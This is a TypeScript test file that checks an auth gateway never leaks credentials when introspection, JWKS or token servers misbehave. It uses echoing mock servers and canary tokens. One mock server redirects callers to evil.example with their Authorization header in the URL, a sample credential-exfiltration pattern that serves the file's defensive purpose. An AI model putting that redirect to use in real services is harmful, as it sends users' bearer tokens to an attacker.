// auth.md §4 row 12: what authorization servers say and do must give no credential away.
import type { RequestListener } from "node:http";
import { expect, it } from "vitest";
import type { AuthDefinition } from "../../src/contract/auth.ts";
import { Secret } from "../../src/core/secret.ts";
import { listen } from "../upstream/local-server.ts";
import { callersToken, expectNoCanary, printed, staticKey, withToken } from "./canary.ts";
import { type RigOptions, startRig } from "./rig.ts";
import { call } from "./things.ts";

/** A server that answers everything that it was sent. */
function telling(status: number, type = "application/json"): RequestListener {
  return async (request, response) => {
    const sent = (await request.toArray()).join("");
    const all = JSON.stringify({
      error: "invalid_request",
      error_description: `${sent} ${decodeURIComponent(sent)} ${request.headers.authorization}`,
    });
    response.writeHead(status, { "content-type": type, "x-echo": all.replaceAll("\n", " ") });
    response.end(all);
  };
}

const servers: readonly (readonly [string, RequestListener])[] = [
  ["refuses", telling(400)],
  ["fails", telling(500)],
  ["answers nonsense", telling(200)],
  ["answers text", telling(200, "text/plain")],
  [
    "answers no JSON",
    (request, response) => void response.end(`<${request.headers.authorization}`),
  ],
  ["breaks off", (request) => void request.socket.destroy()],
  [
    "leads elsewhere",
    (request, response) => {
      response.writeHead(302, {
        location: `https://evil.example/?${request.headers.authorization}`,
      });
      response.end();
    },
  ],
];

async function answerOf(options: RigOptions, token = callersToken) {
  const rig = await startRig({ ...options, environment: { SECRET: staticKey } });
  rig.redactor.track(new Secret(staticKey));
  const output = printed();
  const answer = await withToken(rig, call("1"), { authorization: `Bearer ${token}` });
  return { answer, texts: { answer, log: rig.logged(), output: output() } };
}

const client = { id: "gram", secret: { env: "SECRET" } };

it.each(servers)("introspection by a server that %s", async (_name, listener) => {
  const endpoint = await listen(listener);
  const auth: AuthDefinition = { mode: "introspection", endpoint, client, audiences: [] };
  const { answer, texts } = await answerOf({ auth });
  expect(answer).toMatch(/^\[(?:401|503)/);
  expectNoCanary(texts);
});

it.each(servers)("keys of a server that %s", async (_name, listener) => {
  const origin = await listen(listener);
  const auth: AuthDefinition = {
    mode: "jwt",
    issuer: origin,
    jwksUri: `${origin}/jwks`,
    audiences: ["a"],
  };
  const header = Buffer.from('{"alg":"ES256","kid":"1"}').toString("base64url");
  const { answer, texts } = await answerOf({ auth }, `${header}.e30.${"canarycaller7f3a9c51"}`);
  expect(answer).toMatch(/^\[(?:401|503)/);
  expectNoCanary(texts);
});

it.each(["tokenExchange", "clientCredentials"] as const)(
  "a token that is got by %s from servers that fail in every way",
  async (from) => {
    for (const [name, listener] of servers) {
      const tokenEndpoint = await listen(listener);
      const { answer, texts } = await answerOf({
        auth: { mode: "passthrough" },
        upstream: {
          credential: {
            header: "authorization",
            prefix: "Bearer ",
            from,
            grant: { tokenEndpoint, client },
          },
        },
      });
      expect(answer, name).toContain("could not be got");
      expectNoCanary(texts);
    }
  },
);

it("a probe that the API answers with all that it was sent", async () => {
  for (const status of [200, 401, 403, 500]) {
    const { answer, texts } = await answerOf({
      auth: { mode: "passthrough", probe: { path: "/user", scopes: { header: "x-echo" } } },
      api: telling(status),
    });
    expect(answer).toMatch(/^\[(?:200|401)/);
    expectNoCanary(texts);
  }
});

it("a key that the gateway does not know", async () => {
  const auth: AuthDefinition = { mode: "gatewayKey", keys: { env: "SECRET" } };
  const { answer, texts } = await answerOf({ auth });
  // The keys are a canary themselves: what cannot be read as keys is not repeated either.
  expect(answer).toMatch(/^\[503/);
  expectNoCanary(texts);
});
